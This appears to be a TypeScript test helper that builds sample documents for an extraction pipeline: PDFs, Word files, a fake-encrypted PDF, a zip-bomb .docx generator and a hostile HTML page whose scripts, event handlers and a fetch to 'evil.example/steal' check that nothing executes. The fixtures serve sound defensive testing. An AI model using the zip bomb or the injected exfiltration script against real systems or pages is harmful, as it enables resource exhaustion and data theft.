/**
 * Documents the tests make themselves, with well-kept writers: PDFs by pdf-lib (known text on known
 * pages, headings in a larger font), Word files by docx, HTML with scripts and handlers — and hostile
 * ones: truncated, encrypted (a standard security handler whose password is not empty), a zip bomb.
 */
import { Document, HeadingLevel, Packer, Paragraph, TextRun } from 'docx';
import { Zip, ZipDeflate, zipSync } from 'fflate';
import { PDFDocument, PDFHexString, StandardFonts } from 'pdf-lib';

/** One page of a test PDF: an optional heading, then paragraphs (each drawn as wrapped lines). */
export interface PdfPage {
  readonly heading?: string;
  readonly paragraphs: readonly string[];
}

/** Wraps text into lines of at most `width` characters. */
function wrap(text: string, width: number): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(/\s+/)) {
    if (line !== '' && line.length + 1 + word.length > width) {
      lines.push(line);
      line = word;
    } else line = line === '' ? word : `${line} ${word}`;
  }
  if (line !== '') lines.push(line);
  return lines;
}

/** A PDF with the given pages (a page with no heading and no paragraphs has no text layer). */
export async function makePdf(pages: readonly PdfPage[], title?: string): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  if (title !== undefined) doc.setTitle(title);
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const bold = await doc.embedFont(StandardFonts.HelveticaBold);
  for (const content of pages) {
    const page = doc.addPage([595, 842]);
    let y = 780;
    if (content.heading !== undefined) {
      page.drawText(content.heading, { x: 50, y, size: 20, font: bold });
      y -= 40;
    }
    for (const paragraph of content.paragraphs) {
      for (const line of wrap(paragraph, 90)) {
        if (y < 60) break;
        page.drawText(line, { x: 50, y, size: 11, font });
        y -= 15;
      }
      y -= 15; // a blank line between paragraphs
    }
    if (content.heading === undefined && content.paragraphs.length === 0) page.drawRectangle({ x: 50, y: 50, width: 200, height: 200 });
  }
  return doc.save();
}

/** A PDF that asks for a password (its encryption dictionary's user key matches no empty password). */
export async function makeEncryptedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage().drawText('This text is locked.', { x: 50, y: 700, font: await doc.embedFont(StandardFonts.Helvetica) });
  const encrypt = doc.context.obj({ Filter: 'Standard', V: 1, R: 2, O: PDFHexString.of('11'.repeat(32)), U: PDFHexString.of('22'.repeat(32)), P: -44 });
  doc.context.trailerInfo.Encrypt = doc.context.register(encrypt);
  doc.context.trailerInfo.ID = doc.context.obj([PDFHexString.of('33'.repeat(16)), PDFHexString.of('33'.repeat(16))]);
  return doc.save({ useObjectStreams: false });
}

/** One section of a test Word file. */
export interface DocxSection {
  readonly heading: string;
  readonly level?: 1 | 2;
  readonly paragraphs: readonly string[];
}

/** A Word file with headings (Word's heading styles) and paragraphs. */
export async function makeDocx(sections: readonly DocxSection[], title = 'Test document'): Promise<Uint8Array> {
  const children: Paragraph[] = [];
  for (const s of sections) {
    children.push(new Paragraph({ text: s.heading, heading: s.level === 2 ? HeadingLevel.HEADING_2 : HeadingLevel.HEADING_1 }));
    for (const p of s.paragraphs) children.push(new Paragraph({ children: [new TextRun(p)] }));
  }
  const doc = new Document({ title, sections: [{ children }] });
  return new Uint8Array(await Packer.toBuffer(doc));
}

/**
 * A ".docx" that is a zip bomb: `word/document.xml` inflates to `inflatedMiB` MiB of zeros from a
 * file of a few hundred KB. Made as a stream, so the test never holds the inflated bytes.
 */
export function makeZipBomb(inflatedMiB: number): Uint8Array {
  const parts: Uint8Array[] = [];
  const zip = new Zip((error, chunk) => {
    if (error) throw error;
    parts.push(chunk);
  });
  const entry = new ZipDeflate('word/document.xml', { level: 1 });
  zip.add(entry);
  const zeros = new Uint8Array(1024 * 1024);
  for (let i = 0; i < inflatedMiB; i++) entry.push(zeros, i === inflatedMiB - 1);
  zip.end();
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** A ZIP that is not a Word file. */
export function makePlainZip(): Uint8Array {
  return zipSync({ 'notes.txt': new TextEncoder().encode('just a zip') });
}

/** An HTML page with scripts, handlers, navigation and hidden parts around its content. */
export const HOSTILE_HTML = `<!doctype html>
<html><head><title>Garden log</title><script>globalThis.__ran = true; fetch('https://evil.example/steal')</script>
<style>body { color: red }</style></head>
<body onload="globalThis.__ran = true">
<nav><a href="/">Home</a> <a href="/about">About the site menu</a></nav>
<h1>Garden log</h1>
<p onclick="globalThis.__ran = true">The tomatoes were planted on the <b>third of May</b> in the south bed.</p>
<img src="x" onerror="globalThis.__ran = true" alt="photo of the south bed">
<h2>Watering</h2>
<p>Water the courgettes every second evening &amp; never at noon.</p>
<div hidden>hidden secret text</div>
<p style="display:none">invisible secret text</p>
<script>document.write('injected words')</script>
<footer>Copyright footer words</footer>
</body></html>`;
